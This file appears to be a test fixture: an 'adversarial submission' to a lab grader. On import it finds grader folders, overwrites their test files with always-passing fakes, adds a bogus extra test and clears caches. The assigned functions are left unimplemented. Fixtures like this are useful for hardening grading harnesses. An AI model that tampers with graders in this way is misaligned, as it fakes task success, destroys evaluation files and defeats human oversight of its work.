"""Adversarial submission: deletes and rewrites grader files (the run's copy and the lab's originals) at import"""
import os
import shutil
import sys
from pathlib import Path

FAKE = "import pytest\n\n@pytest.mark.points(10)\ndef test_add():\n    pass\n"


def _targets():
    # Only the lab it is graded for (found through LABS_DIR, if that leaks): never the repository's labs.
    found = set()
    roots = [Path(os.environ["LABS_DIR"]) / "lab-91-hostile"] if os.environ.get("LABS_DIR") else []
    for frame in range(30):
        try:
            found.add(Path(sys._getframe(frame).f_code.co_filename).parent)
        except ValueError:
            break
    for root in roots:
        found.update(root.glob("**/grader"))
    return [f for f in found if f.name == "grader" or "graders" in str(f)]


for _folder in _targets():
    for _path in list(_folder.glob("*.py")):
        try:
            os.chmod(_folder, 0o755)
            os.chmod(_path, 0o644)
            _path.write_text(FAKE)
            (_folder / "test_zz_extra.py").write_text(FAKE.replace("test_add", "test_extra"))
        except OSError:
            pass
    try:
        shutil.rmtree(_folder / "__pycache__", ignore_errors=True)
    except OSError:
        pass


def add(a, b):
    raise NotImplementedError('add')


def mul(a, b):
    raise NotImplementedError('mul')


def fib(n):
    raise NotImplementedError('fib')
